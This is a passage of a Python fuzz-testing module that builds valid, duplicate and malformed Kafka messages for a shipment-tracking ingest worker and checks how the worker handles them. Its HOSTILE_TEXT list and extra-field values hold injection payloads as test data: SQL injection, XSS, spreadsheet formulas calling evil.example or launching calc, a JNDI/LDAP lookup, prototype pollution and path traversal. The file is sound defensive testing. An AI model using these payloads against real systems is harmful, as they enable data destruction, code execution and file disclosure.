"""Hostile input: a seeded fuzz set with expected outcomes, and a checked run through the worker.

`hostile_messages` builds the set; `run_fuzz` produces it to the real broker, runs the real
`tiretrack ingest --stop-at-end` and checks that every message is accounted for.

The outcome of each message is decided here, by how it was built (a valid simulator event, an
exact copy of an earlier valid one, or one that breaks a named rule of the contract), never by
calling the validator, so a test built on it checks the validator and the worker independently.
Cases where the contract (../shared/contract/EVENTS.md) leaves the outcome open are left out:
positive integers beyond 64 bits or `1e2` in an integer field, JSON nested deeper than a
parser's limit inside an ignored field, a leap second, `+hhmm` offsets or a space separator,
lone surrogate escapes, duplicate keys, a byte-order mark, an empty `source`, an empty delivered
`lines`, years that leave 1-9999 once converted to UTC, and strings of astral characters (code
points or UTF-16 units?) at the 64-character limit.
"""

from __future__ import annotations

import copy
import datetime as dt
import functools
import json
import random
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Final, Literal

import duckdb
import orjson
from confluent_kafka import KafkaError, KafkaException, Message, Producer

from ingest.config import DLQ_SUFFIX, REPO_DIR, KafkaSettings, read_properties
from ingest.contract import INVENTORY, SHIPMENTS
from ingest.database import connect_file
from ingest.errors import BrokerError, ConfigError
from ingest.kafka import ensure_topics
from ingest.network import load_network
from ingest.simulator import SimulationSettings, simulate

Outcome = Literal["valid", "duplicate", "rejected"]
VALID: Final = "valid"
DUPLICATE: Final = "duplicate"
REJECTED: Final = "rejected"

# Fixed, so the same seed gives the same bytes whenever it runs.
START: Final = dt.datetime(2026, 3, 2, 6, 0, tzinfo=dt.UTC)
LARGE: Final = 1_000_000  # bytes; production Kafka's default message limit
HUGE_SIZE: Final = 1_200_000
DEEP_LEVELS: Final = 100_000
# Values over Kafka's default 1 MB and structures far beyond a parser's nesting limit are in
# every set of this many messages or more (a few of each, whatever the seed).
GUARANTEED_FROM: Final = 50

ENVELOPE_FIELDS: Final = ("event_id", "event_type", "schema_version", "occurred_at", "source")
# Fields each type must have (besides the envelope), per the contract's tables.
REQUIRED_FIELDS: Final[dict[str, tuple[str, ...]]] = {
    "shipment.created": (
        "shipment_id",
        "origin_site_id",
        "destination_site_id",
        "carrier_id",
        "mode",
        "planned_departure",
        "planned_arrival",
        "lines",
    ),
    "shipment.departed": ("shipment_id",),
    "shipment.position": ("shipment_id", "lat", "lon"),
    "shipment.eta_updated": ("shipment_id", "eta"),
    "shipment.exception": ("shipment_id", "code", "severity"),
    "shipment.arrived": ("shipment_id",),
    "shipment.delivered": ("shipment_id", "lines"),
    "shipment.cancelled": ("shipment_id",),
    "inventory.counted": ("site_id", "sku", "on_hand"),
    "inventory.adjusted": ("site_id", "sku", "delta", "reason"),
}


def _required(event: dict[str, Any]) -> tuple[str, ...]:
    """The envelope and the fields the event's type must have."""
    return (*ENVELOPE_FIELDS, *REQUIRED_FIELDS[event["event_type"]])


# Optional fields with an explicit type in the contract (`message` and the free-text `reason`s
# have none, so no wrong type is generated for them).
_OPTIONAL: Final[dict[str, tuple[str, ...]]] = {
    "shipment.departed": ("lat", "lon"),
    "shipment.position": ("speed_kmh", "heading_deg"),
    "shipment.eta_updated": ("lat", "lon"),
    "shipment.exception": ("estimated_delay_minutes", "lat", "lon"),
    "shipment.arrived": ("lat", "lon"),
    "shipment.delivered": ("damaged_quantity", "lat", "lon"),
    "shipment.cancelled": ("lat", "lon"),
}
_FREE_TEXT: Final[dict[str, tuple[str, ...]]] = {
    "shipment.eta_updated": ("reason",),
    "shipment.exception": ("message",),
    "shipment.cancelled": ("reason",),
}

# What kind of value each field holds, which decides its wrong types and bad values.
_KIND: Final[dict[str, str]] = {
    "event_id": "id",
    "event_type": "text",
    "schema_version": "version",
    "occurred_at": "time",
    "source": "text",
    "shipment_id": "id",
    "site_id": "id",
    "sku": "id",
    "origin_site_id": "id",
    "destination_site_id": "id",
    "carrier_id": "id",
    "mode": "mode",
    "planned_departure": "time",
    "planned_arrival": "time",
    "eta": "time",
    "lines": "lines",
    "lat": "lat",
    "lon": "lon",
    "speed_kmh": "speed",
    "heading_deg": "heading",
    "code": "code",
    "severity": "severity",
    "estimated_delay_minutes": "count",
    "damaged_quantity": "count",
    "on_hand": "count",
    "delta": "delta",
    "reason": "adjust_reason",  # only a typed field on inventory.adjusted
}


@dataclass(frozen=True)
class _Raw:
    """JSON text inserted as it is: numbers Python's json cannot write (1e400, NaN)."""

    text: str


_STRING_WRONG: Final[tuple[Any, ...]] = (123, 1.5, True, [], {}, ["x"], _Raw("1e400"))
_FLOAT_WRONG: Final[tuple[Any, ...]] = ("48.1", True, False, [], {}, [1.0])
_INT_WRONG: Final[tuple[Any, ...]] = (120.5, "3", True, [], {}, [1])
_WRONG_TYPES: Final[dict[str, tuple[Any, ...]]] = {
    "id": _STRING_WRONG,
    "text": _STRING_WRONG,
    "time": (*_STRING_WRONG, 1_772_438_400, 1_772_438_400_000),
    "mode": _STRING_WRONG,
    "code": _STRING_WRONG,
    "severity": _STRING_WRONG,
    "adjust_reason": _STRING_WRONG,
    "version": ("1", 1.0, True, [1], {"v": 1}),
    "lat": _FLOAT_WRONG,
    "lon": _FLOAT_WRONG,
    "speed": _FLOAT_WRONG,
    "heading": _FLOAT_WRONG,
    "count": _INT_WRONG,
    "delta": _INT_WRONG,
    "lines": ({}, "lines", 1, True, {"sku": "x", "quantity": 1}),
}
_BAD_TIMES: Final = (
    "2026-03-02T08:00:00",  # no offset
    "2026-03-02T08:00:00.123",
    "2026-03-02T08:00:00+25:00",
    "2026-03-02T08:00:00+01:60",
    "2026-03-02T08:00:00+1:00",
    "2026-02-30T08:00:00Z",
    "2026-13-01T08:00:00Z",
    "2026-03-02T25:00:00Z",
    "2026-03-02T08:61:00Z",
    "2026-03-02T08:00Z",  # RFC 3339 requires seconds
    "2026-03-02T08:00:00.Z",
    "2026-03-02",
    "08:00:00Z",
    "10000-01-01T00:00:00Z",
    "26/11/2026 10:15",
    "yesterday",
    "",
    "Z",
)
_BAD_VALUES: Final[dict[str, tuple[Any, ...]]] = {
    "id": ("", "x" * 65, "中" * 65, "é" * 65 + "x"),
    "time": _BAD_TIMES,
    "version": (0, 2, 3, -1, _Raw("100000000000000000000000000000")),
    "mode": ("air", "ROAD", "Road", "", " road"),
    "code": ("ALIENS", "traffic", "", "TRAFFIC "),
    "severity": ("fatal", "CRITICAL", "", "Warning"),
    "adjust_reason": ("stolen", "Sold", "", "produced "),
    "lat": (90.0001, -90.5, 1000, _Raw("1e400"), _Raw("-1e400"), _Raw("1" + "0" * 40)),
    "lon": (180.5, -181, _Raw("1e400"), _Raw("-1e400")),
    "speed": (-0.1, -1, _Raw("-1e400")),
    "heading": (-0.5, 360.5, 720, _Raw("1e400")),
    "count": (-1, -(2**63), _Raw("-" + "9" * 30)),
    "delta": (0, -0),
    "text": (),
}
_NOT_JSON_NUMBERS: Final = ("NaN", "Infinity", "-Infinity", "nan", "inf")
_INVALID_UTF8: Final = (
    b"\xff",
    b"\xfe\xff",
    b"\xc3\x28",
    b"\xc0\xaf",
    b"\xed\xa0\x80",
    b"\xf8\x88",
)
_MALFORMED_JSON: Final[tuple[Callable[[bytes], bytes], ...]] = (
    lambda v: v[: len(v) // 2],  # truncated
    lambda v: v[:-1],  # missing closing brace
    lambda v: v + b" x",  # trailing garbage
    lambda v: v + v,  # two objects
    lambda v: b"/* c */" + v,  # comment
    lambda v: v.replace(b'"', b"'"),  # single quotes
    lambda v: v[:-1] + b",}",  # trailing comma
    lambda v: v.replace(b":", b"=", 1),
    lambda v: b"{" + v,
)
_NOT_OBJECTS: Final = (b"[]", b'"event"', b"1", b"null", b"true", b"1e400", b"[{}]", b'"{}"')

# Strings an attacker or a careless producer may send; every one is a valid id (<= 64 chars).
HOSTILE_TEXT: Final = (
    "'; DROP TABLE events; --",
    '"; DROP TABLE events; --',
    "Robert'); DROP TABLE shipment_state;--",
    "1' OR '1'='1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "**bold** _it_ `code` # h1",
    ":red[alert] $x^2$",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "back\\slash\\",
    'quote"double',
    "it's",
    "new\nline",
    "中文-ñ-é-ü-ß",
    "\u202eRTL override",
    "zero\u200bwidth",
    "😀🚚",
    " ",
    "x" * 64,
    "中" * 64,
    "a\u0000b",
    "\x1b[31mred\x1b[0m",
    "bell\x07",
    "%s%n%x",
    "{0}{1}",
    "${jndi:ldap://x/a}",
    "../../etc/passwd",
    "NULL",
    "null",
    "-1",
)
_VALID_TIMES: Final = (
    "0001-01-01T00:00:00Z",
    "0001-01-01T00:00:00-01:00",
    "9999-12-31T23:59:59Z",
    "9999-12-31T23:59:59.999999Z",
    "2026-03-02T08:00:00-00:00",
    "2026-03-02t08:00:00z",
    "2026-03-02T08:00:00.123456789Z",
    "2026-03-02T08:00:00+23:59",
    "2026-03-02T08:00:00.5-23:59",
    "2028-02-29T12:00:00Z",
)
_EDGE_VALUES: Final[dict[str, tuple[Any, ...]]] = {
    "lat": (90, -90, 0, -0.0, 45, 89.999999),
    "lon": (180, -180, 0.0, -179.5),
    "speed": (0, 0.0, 1e308),
    "heading": (0, 360, 359.999, 0.0),
    "count": (0, 2**63 - 1),
    "delta": (1, -1, 2**62, -(2**62)),
}
_EXTRA_FIELDS: Final[tuple[tuple[str, Any], ...]] = (
    ("__proto__", {"admin": True}),
    ("constructor", {"prototype": {}}),
    ("$where", "sleep(1000)"),
    ("big_integer", _Raw("123456789012345678901234567890")),
    ("huge_number", _Raw("1e400")),
    ("tiny_number", _Raw("-1e-400")),
    ("nested", _Raw("[" * 50 + "]" * 50)),
    ("object", {"a": {"b": {"c": [1, "two", None, True]}}}),
    ("null_field", None),
    ("schema_version_2", 2),
    ("event_type_", "shipment.teleported"),
    ("", "empty name"),
    ("x" * 300, "long name"),
    ("unicode_名前", "値"),
)


@dataclass(frozen=True)
class FuzzMessage:
    """One message to produce, and what a correct worker makes of it."""

    family: str  # the topic family it is produced to
    key: bytes | None
    value: bytes | None
    expected: Outcome
    case: str  # the rule or edge it exercises, e.g. "wrong_type:lat"
    event_id: str | None = None  # for valid and duplicate messages


def _encode(event: dict[str, Any], *, indent: int | None = None) -> bytes:
    """JSON (UTF-8, not ASCII-escaped) with _Raw values written as their text."""
    raws: list[str] = []

    def default(obj: Any) -> Any:
        if isinstance(obj, _Raw):
            raws.append(obj.text)
            return f"\x00fuzz-raw-{len(raws) - 1}\x00"
        raise TypeError(f"cannot encode {type(obj).__name__}")

    text = json.dumps(event, ensure_ascii=False, default=default, indent=indent)
    for i, raw in enumerate(raws):
        text = text.replace(f'"\\u0000fuzz-raw-{i}\\u0000"', raw, 1)
    return text.encode("utf-8")


def _key_of(event: dict[str, Any]) -> bytes | None:
    key = event.get("shipment_id", event.get("site_id"))
    return key.encode("utf-8") if isinstance(key, str) else None


def _family_of(event_type: str) -> str:
    return SHIPMENTS if event_type.startswith("shipment.") else INVENTORY


@dataclass
class _Builder:
    """Holds the generator's state: the random stream, simulator events, what was sent."""

    seed: int
    rng: random.Random
    simulated: list[tuple[str, str, bytes, dict[str, Any]]]
    templates: dict[str, dict[str, Any]]
    out: list[FuzzMessage] = field(default_factory=list)
    valid_sent: list[tuple[FuzzMessage, dict[str, Any]]] = field(default_factory=list)
    next_simulated: int = 0
    serial: int = 0

    # -- building blocks ----------------------------------------------------------------------

    def fresh_id(self) -> str:
        self.serial += 1
        return f"fz{self.seed}-{self.serial}"

    def base(self, event_type: str | None = None) -> dict[str, Any]:
        """A complete valid event (every optional field set) with a fresh event_id."""
        chosen = event_type or self.rng.choice(sorted(self.templates))
        event = copy.deepcopy(self.templates[chosen])
        event["event_id"] = self.fresh_id()
        _, _, _, real = self.rng.choice(self.simulated)
        event["occurred_at"] = real["occurred_at"]
        for name in ("shipment_id", "site_id", "sku"):
            if (
                name in event
                and name in real
                and _family_of(chosen) == _family_of(real["event_type"])
            ):
                event[name] = real[name]
        return event

    def emit(
        self,
        case: str,
        family: str,
        key: bytes | None,
        value: bytes | None,
        expected: Outcome,
        event: dict[str, Any] | None = None,
    ) -> None:
        event_id = event.get("event_id") if event is not None else None
        message = FuzzMessage(family, key, value, expected, case, event_id)
        self.out.append(message)
        if expected == VALID and event is not None:
            self.valid_sent.append((message, event))

    def emit_valid(self, case: str, event: dict[str, Any], value: bytes | None = None) -> None:
        self.emit(
            case,
            _family_of(event["event_type"]),
            _key_of(event),
            _encode(event) if value is None else value,
            VALID,
            event,
        )

    def emit_rejected(
        self,
        case: str,
        event: dict[str, Any],
        value: bytes | None = None,
        family: str | None = None,
    ) -> None:
        self.emit(
            case,
            family or _family_of(str(event.get("event_type", "shipment.created"))),
            _key_of(event) if self.rng.random() < 0.9 else self.rng.choice(_ODD_KEYS),
            _encode(event) if value is None else value,
            REJECTED,
        )

    # -- valid messages -----------------------------------------------------------------------

    def simulated_event(self) -> None:
        """A real simulator event, bytes as the simulator wrote them."""
        family, key, value, event = self.simulated[self.next_simulated % len(self.simulated)]
        if self.next_simulated >= len(self.simulated):
            # Past the end of the stream: the same event under a new id.
            event = dict(event, event_id=self.fresh_id())
            value = _encode(event)
        self.next_simulated += 1
        self.emit("simulated", family, key.encode("utf-8"), value, VALID, event)

    def hostile_text(self) -> None:
        event = self.base()
        text = self.rng.choice(HOSTILE_TEXT)
        ids = [f for f in REQUIRED_FIELDS[event["event_type"]] if _KIND.get(f) == "id"]
        choices = ["event_id", "source", *ids, *_FREE_TEXT.get(event["event_type"], ())]
        if "lines" in event:
            choices.append("lines.sku")
        name = self.rng.choice(choices)
        if name == "event_id":
            suffix = "#" + event["event_id"]
            event["event_id"] = text[: 64 - len(suffix)] + suffix
        elif name == "lines.sku":
            event["lines"][0]["sku"] = text
        else:
            event[name] = text
        self.emit_valid(f"hostile_text:{name}", event)

    def edge_value(self) -> None:
        event = self.base()
        fields = [
            f
            for f in (
                *REQUIRED_FIELDS[event["event_type"]],
                *_OPTIONAL.get(event["event_type"], ()),
            )
            if _KIND.get(f) in _EDGE_VALUES
        ]
        if not fields:
            return self.edge_time()
        name = self.rng.choice(fields)
        event[name] = self.rng.choice(_EDGE_VALUES[_KIND[name]])
        if name in ("lat", "lon"):  # the pair: both or neither
            other = "lon" if name == "lat" else "lat"
            event[other] = self.rng.choice(_EDGE_VALUES[other])
        self.emit_valid(f"edge_value:{name}", event)

    def edge_time(self) -> None:
        event = self.base()
        names = [
            f
            for f in (*ENVELOPE_FIELDS, *REQUIRED_FIELDS[event["event_type"]])
            if _KIND[f] == "time"
        ]
        name = self.rng.choice(names)
        event[name] = self.rng.choice(_VALID_TIMES)
        self.emit_valid(f"edge_time:{name}", event)

    def null_optional(self) -> None:
        event = self.base(self.rng.choice(sorted(_OPTIONAL)))
        optional = _OPTIONAL[event["event_type"]] + _FREE_TEXT.get(event["event_type"], ())
        name = self.rng.choice(optional)
        if name in ("lat", "lon"):
            names: tuple[str, ...] = ("lat", "lon")  # the pair: both or neither
        else:
            names = (name,)
        absent = self.rng.random() < 0.5
        for each in names:
            if absent:
                del event[each]
            else:
                event[each] = None  # null counts as absent
        self.emit_valid(f"null_optional:{name}", event)

    def extra_fields(self) -> None:
        event = self.base()
        for name, value in self.rng.sample(_EXTRA_FIELDS, self.rng.randint(1, 4)):
            event[name] = value
        self.emit_valid("extra_fields", event)

    def json_whitespace(self) -> None:
        event = self.base()
        value = _encode(event, indent=self.rng.choice([None, 2]))
        self.emit_valid("json_whitespace", event, b" \t\r\n" + value + b"\n ")

    def rejected_then_valid(self) -> None:
        """A rejected message does not reserve its event_id: the valid one after it counts."""
        event = self.base()
        broken = dict(event)
        del broken[self.rng.choice(REQUIRED_FIELDS[event["event_type"]])]
        self.emit_rejected("rejected_then_valid:rejected", broken)
        self.emit_valid("rejected_then_valid:valid", event)

    # -- duplicates ---------------------------------------------------------------------------

    def duplicate(self) -> None:
        if not self.valid_sent:
            return self.simulated_event()
        original, event = self.rng.choice(self.valid_sent)
        if original.value is not None and len(original.value) > LARGE:
            original, event = self.valid_sent[0]
        if self.rng.random() < 0.75:
            case, value = "exact_duplicate", original.value
        else:
            # A producer retry may write the same event with other spacing or key order.
            case, value = "reserialized_duplicate", _encode(dict(reversed(event.items())), indent=1)
        self.emit(case, original.family, original.key, value, DUPLICATE, event)

    # -- rejected messages --------------------------------------------------------------------

    def missing_field(self) -> None:
        event = self.base()
        name = self.rng.choice((*ENVELOPE_FIELDS, *REQUIRED_FIELDS[event["event_type"]]))
        if self.rng.random() < 0.5:
            del event[name]
            self.emit_rejected(f"missing:{name}", event)
        else:
            event[name] = None  # null counts as absent
            self.emit_rejected(f"null:{name}", event)

    def wrong_type(self) -> None:
        event = self.base()
        names = [
            *ENVELOPE_FIELDS,
            *REQUIRED_FIELDS[event["event_type"]],
            *_OPTIONAL.get(event["event_type"], ()),
        ]
        if "lines" in event:
            names += ["lines.item", "lines.sku", "lines.quantity"]
        name = self.rng.choice(names)
        if name == "lines.item":
            event["lines"][0] = self.rng.choice(["SKU-1", 1, None, [], True])
        elif name == "lines.sku":
            event["lines"][0]["sku"] = self.rng.choice(_STRING_WRONG)
        elif name == "lines.quantity":
            event["lines"][-1]["quantity"] = self.rng.choice(_INT_WRONG)
        else:
            event[name] = self.rng.choice(_WRONG_TYPES[_KIND[name]])
        self.emit_rejected(f"wrong_type:{name}", event)

    def bad_value(self) -> None:
        event = self.base()
        names = [
            f
            for f in (
                *ENVELOPE_FIELDS,
                *REQUIRED_FIELDS[event["event_type"]],
                *_OPTIONAL.get(event["event_type"], ()),
            )
            if _BAD_VALUES.get(_KIND[f])
        ]
        if "lines" in event:
            names += ["lines.sku", "lines.quantity"]
            if event["event_type"] == "shipment.created":
                names.append("lines.empty")
        name = self.rng.choice(names)
        if name == "lines.sku":
            event["lines"][0]["sku"] = self.rng.choice(_BAD_VALUES["id"])
        elif name == "lines.quantity":
            minimum = 1 if event["event_type"] == "shipment.created" else 0
            event["lines"][0]["quantity"] = self.rng.choice([minimum - 1, -5, -(2**63)])
        elif name == "lines.empty":
            event["lines"] = []  # a plan has at least one line
        else:
            event[name] = self.rng.choice(_BAD_VALUES[_KIND[name]])
        self.emit_rejected(f"bad_value:{name}", event)

    def bad_time(self) -> None:
        event = self.base()
        names = [
            f
            for f in (*ENVELOPE_FIELDS, *REQUIRED_FIELDS[event["event_type"]])
            if _KIND[f] == "time"
        ]
        name = self.rng.choice(names)
        event[name] = self.rng.choice(_BAD_TIMES)
        self.emit_rejected(f"bad_time:{name}", event)

    def schema_version(self) -> None:
        event = self.base()
        event["schema_version"] = self.rng.choice(
            (*_WRONG_TYPES["version"], *_BAD_VALUES["version"])
        )
        self.emit_rejected("schema_version", event)

    def unknown_event_type(self) -> None:
        event = self.base()
        event["event_type"] = self.rng.choice(
            ["shipment.teleported", "Shipment.Created", "SHIPMENT.CREATED", "shipment.created ",
             "created", "", "inventory.recounted", "shipment.*", "shipment."]
        )  # fmt: skip
        family = self.rng.choice([SHIPMENTS, INVENTORY])
        self.emit_rejected("unknown_event_type", event, family=family)

    def wrong_family(self) -> None:
        event = self.base()
        family = INVENTORY if _family_of(event["event_type"]) == SHIPMENTS else SHIPMENTS
        self.emit_rejected("wrong_family", event, family=family)

    def half_position(self) -> None:
        event = self.base(self.rng.choice(sorted(_OPTIONAL)))
        if "lat" not in _OPTIONAL[event["event_type"]]:
            event = self.base("shipment.departed")
        dropped = self.rng.choice(["lat", "lon"])
        if self.rng.random() < 0.5:
            del event[dropped]
        else:
            event[dropped] = None
        self.emit_rejected(f"half_position:{dropped}", event)

    def not_json_number(self) -> None:
        event = self.base()
        numeric = [f for f in event if _KIND.get(f) in _EDGE_VALUES or f == "schema_version"]
        name = self.rng.choice([*numeric, "extra"])
        event[name] = _Raw(self.rng.choice(_NOT_JSON_NUMBERS))
        self.emit_rejected(f"not_json_number:{name}", event)

    def invalid_utf8(self) -> None:
        event = self.base()
        bad = self.rng.choice(_INVALID_UTF8)
        name = self.rng.choice(["source", "event_id", "extra"])
        event[name] = "\x00fuzz-bad\x00"
        value = _encode(event).replace(b"\\u0000fuzz-bad\\u0000", b"ok" + bad + b"ok", 1)
        self.emit_rejected(f"invalid_utf8:{name}", event, value)

    def malformed_json(self) -> None:
        event = self.base()
        index = self.rng.randrange(len(_MALFORMED_JSON))
        self.emit_rejected(f"malformed_json:{index}", event, _MALFORMED_JSON[index](_encode(event)))

    def not_object(self) -> None:
        event = self.base()
        value = self.rng.choice([*_NOT_OBJECTS, b"[" + _encode(event) + b"]"])
        self.emit_rejected("not_object", event, value)

    def empty_value(self) -> None:
        event = self.base()
        if self.rng.random() < 0.5:
            self.emit("empty_value", _family_of(event["event_type"]), _key_of(event), b"", REJECTED)
        else:
            self.emit("tombstone", _family_of(event["event_type"]), _key_of(event), None, REJECTED)

    def invalid_after_valid(self) -> None:
        """Validation comes first: a broken copy of an accepted event is rejected, not a
        duplicate."""
        if not self.valid_sent:
            return self.missing_field()
        original, accepted = self.rng.choice(self.valid_sent)
        event = dict(accepted)
        event["schema_version"] = 2
        self.emit("invalid_after_valid", original.family, original.key, _encode(event), REJECTED)

    # -- huge and deep ------------------------------------------------------------------------

    def huge(self, which: int) -> None:
        event = self.base()
        kind = ("huge_extra_field", "huge_garbage", "huge_event_id", "huge_invalid_utf8")[which % 4]
        if kind == "huge_extra_field":
            event["attachment"] = "x" * HUGE_SIZE  # unknown fields are ignored, whatever size
            self.emit_valid(kind, event)
        elif kind == "huge_garbage":
            noise = bytes(self.rng.getrandbits(8) for _ in range(4096))
            self.emit_rejected(kind, event, b"{" + noise * (HUGE_SIZE // len(noise) + 1))
        elif kind == "huge_event_id":
            event["event_id"] = "e" * HUGE_SIZE
            self.emit_rejected(kind, event)
        else:
            event["source"] = "\x00fuzz-bad\x00"
            value = _encode(event).replace(b"\\u0000fuzz-bad\\u0000", b"y" * HUGE_SIZE + b"\xff", 1)
            self.emit_rejected(kind, event, value)

    def deep(self, which: int) -> None:
        event = self.base()
        kind = ("deep_array", "deep_object", "deep_in_event_id")[which % 3]
        if kind == "deep_array":
            value = b"[" * DEEP_LEVELS + b"]" * DEEP_LEVELS  # not an object at any depth
        elif kind == "deep_object":
            # An object without any envelope field, however deep it goes.
            value = b'{"a":' * DEEP_LEVELS + b"1" + b"}" * DEEP_LEVELS
        else:
            event["event_id"] = _Raw("[" * DEEP_LEVELS + "]" * DEEP_LEVELS)
            value = _encode(event)
        self.emit_rejected(kind, event, value)


_ODD_KEYS: Final[tuple[bytes | None, ...]] = (None, b"", b"\xff\xfe\x00", "键".encode(), b"x" * 300)

# Relative weights of the random cases after the guaranteed huge and deep ones.
_CASES: Final[tuple[tuple[float, Callable[[_Builder], None]], ...]] = (
    (40.0, _Builder.simulated_event),
    (8.0, _Builder.duplicate),
    (5.0, _Builder.hostile_text),
    (3.0, _Builder.edge_value),
    (2.5, _Builder.edge_time),
    (2.0, _Builder.null_optional),
    (2.0, _Builder.extra_fields),
    (1.0, _Builder.json_whitespace),
    (1.5, _Builder.rejected_then_valid),
    (5.0, _Builder.missing_field),
    (7.0, _Builder.wrong_type),
    (6.0, _Builder.bad_value),
    (3.0, _Builder.bad_time),
    (2.0, _Builder.schema_version),
    (1.5, _Builder.unknown_event_type),
    (2.0, _Builder.wrong_family),
    (1.5, _Builder.half_position),
    (1.5, _Builder.not_json_number),
    (1.5, _Builder.invalid_utf8),
    (1.5, _Builder.malformed_json),
    (1.0, _Builder.not_object),
    (1.0, _Builder.empty_value),
    (1.0, _Builder.invalid_after_valid),
)


def _templates(simulated: list[tuple[str, str, bytes, dict[str, Any]]]) -> dict[str, dict]:
    """One complete valid event of every type, built on real simulator events (ids, places,
    SKUs, times), with every optional field set so that each can be broken."""
    created = next(e for f, _, _, e in simulated if e["event_type"] == "shipment.created")
    counted = next(e for f, _, _, e in simulated if e["event_type"] == "inventory.counted")
    envelope = {k: created[k] for k in ENVELOPE_FIELDS}
    ship = {**envelope, "shipment_id": created["shipment_id"], "lat": 50.11, "lon": 8.68}
    line = created["lines"][0]
    templates: dict[str, dict[str, Any]] = {
        "shipment.created": {k: v for k, v in created.items() if k not in ("lat", "lon")},
        "shipment.departed": {**ship, "event_type": "shipment.departed"},
        "shipment.position": {
            **ship,
            "event_type": "shipment.position",
            "speed_kmh": 71.5,
            "heading_deg": 184.0,
        },
        "shipment.eta_updated": {
            **ship,
            "event_type": "shipment.eta_updated",
            "eta": created["planned_arrival"],
            "reason": "congestion",
        },
        "shipment.exception": {
            **ship,
            "event_type": "shipment.exception",
            "code": "TRAFFIC",
            "severity": "warning",
            "message": "accident ahead, lane closed",
            "estimated_delay_minutes": 25,
        },
        "shipment.arrived": {**ship, "event_type": "shipment.arrived"},
        "shipment.delivered": {
            **ship,
            "event_type": "shipment.delivered",
            "lines": [{"sku": line["sku"], "quantity": line["quantity"]}],
            "damaged_quantity": 0,
        },
        "shipment.cancelled": {**ship, "event_type": "shipment.cancelled", "reason": "withdrawn"},
        "inventory.counted": dict(counted),
        "inventory.adjusted": {
            **{k: counted[k] for k in (*ENVELOPE_FIELDS, "site_id", "sku")},
            "event_type": "inventory.adjusted",
            "delta": -4,
            "reason": "sold",
        },
    }
    return templates


def hostile_messages(seed: int, count: int) -> list[FuzzMessage]:
    """`count` messages for the two topics, seeded, each with its expected outcome.

    About 40 % are real simulator events, 8 % copies of earlier valid messages, the rest
    hostile: valid events with hostile text and edge values, and messages that break each rule
    of the contract. From GUARANTEED_FROM messages on, a few values over 1 MB and a few
    structures nested 100,000 levels deep are always included.
    """
    if count < 0:
        raise ConfigError(f"fuzz message count must be >= 0, got {count}")
    rng = random.Random(f"tiretrack-fuzz-{seed}")
    settings = SimulationSettings(seed=seed, start=START, max_events=max(count, 2000))
    simulated = [
        (m.family, m.key, m.value, orjson.loads(m.value))
        for m in simulate(settings, load_network())
    ]
    builder = _Builder(seed, rng, simulated, _templates(simulated))
    special: dict[int, Callable[[], None]] = {}
    if count >= GUARANTEED_FROM:
        slots = rng.sample(range(count), 7)
        for i, slot in enumerate(slots[:4]):
            special[slot] = functools.partial(builder.huge, i)
        for i, slot in enumerate(slots[4:]):
            special[slot] = functools.partial(builder.deep, i)
    weights = [w for w, _ in _CASES]
    cases = [c for _, c in _CASES]
    while len(builder.out) < count:
        slot = len(builder.out)
        if slot in special:
            special.pop(slot)()
            continue
        (case,) = rng.choices(cases, weights)
        case(builder)
    return builder.out[:count]


# -- the run ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Delivered:
    """Where a fuzz message landed."""

    message: FuzzMessage
    topic: str
    partition: int
    offset: int


@dataclass(frozen=True)
class FuzzReport:
    """What run_fuzz produced, what the worker counted, and every mismatch found."""

    seed: int
    produced: int
    expected: dict[str, int]  # outcome -> messages
    counted: dict[str, int]  # ingest_stats: messages, accepted, duplicates, rejected
    large_messages: int  # values over 1 MB
    produce_s: float
    ingest_s: float
    worker_exit_code: int
    problems: tuple[str, ...]
    delivered: tuple[Delivered, ...] = field(repr=False)
    worker_stderr: str = field(repr=False)

    @property
    def ok(self) -> bool:
        return not self.problems

    def summary(self) -> str:
        c = self.counted
        return (
            f"fuzz seed {self.seed}: {self.produced} messages ({self.large_messages} over 1 MB) "
            f"-> {c.get('accepted', 0)} accepted, {c.get('duplicates', 0)} duplicates, "
            f"{c.get('rejected', 0)} rejected (expected {self.expected.get(VALID, 0)} / "
            f"{self.expected.get(DUPLICATE, 0)} / {self.expected.get(REJECTED, 0)}); "
            f"produce {self.produce_s:.1f} s, ingest {self.ingest_s:.1f} s; "
            + ("OK" if self.ok else f"{len(self.problems)} problem(s): {self.problems[0]}")
        )


def produce_messages(kafka: KafkaSettings, messages: list[FuzzMessage]) -> list[Delivered]:
    """Produce in order (one partition keeps the order of its keys) and return where each
    message landed."""
    producer = Producer(kafka.producer_config())
    positions: list[tuple[str, int, int] | None] = [None] * len(messages)
    errors: list[str] = []

    def on_delivery(index: int, error: KafkaError | None, msg: Message) -> None:
        if error is not None:
            errors.append(f"message {index} ({messages[index].case}): {error.str()}")
            return
        positions[index] = (msg.topic() or "", msg.partition() or 0, msg.offset() or 0)

    for index, message in enumerate(messages):
        topic = kafka.topic_for(message.family)
        while True:
            try:
                producer.produce(
                    topic,
                    value=message.value,
                    key=message.key,
                    on_delivery=functools.partial(on_delivery, index),
                )
                break
            except BufferError:
                producer.poll(0.05)
            except KafkaException as e:
                raise BrokerError(f"cannot produce fuzz message {index} to {topic}: {e}") from e
        producer.poll(0)
    remaining = producer.flush(60)
    if remaining or errors:
        raise BrokerError(
            f"{remaining + len(errors)} fuzz message(s) not delivered to "
            f"{kafka.bootstrap_servers}: {errors[0] if errors else 'flush timed out'}"
        )
    return [
        Delivered(message, *position)
        for message, position in zip(messages, positions, strict=True)
        if position is not None
    ]


def worker_command(kafka: KafkaSettings, db: Path, properties: Path | None) -> list[str]:
    """The real `tiretrack ingest` command line that reads the fuzz topics to their end."""
    command = [
        sys.executable, "-m", "ingest", "ingest",
        "--bootstrap-servers", kafka.bootstrap_servers,
        "--shipments-topic", kafka.shipments_topic,
        "--inventory-topic", kafka.inventory_topic,
        "--alerts-topic", kafka.alerts_topic,
        "--alert-acks-topic", kafka.alert_acks_topic,
        "--db", str(db), "--stop-at-end", "--no-serve",
    ]  # fmt: skip
    if properties is not None:
        command += ["--kafka-config", str(properties)]
    return command


def _properties_file(kafka: KafkaSettings, db: Path) -> Path | None:
    """The worker's Kafka properties: the settings' file, plus any extra entries in a private
    copy next to the database (mode 0600: it may hold secrets)."""
    if not kafka.extra:
        return kafka.properties_file
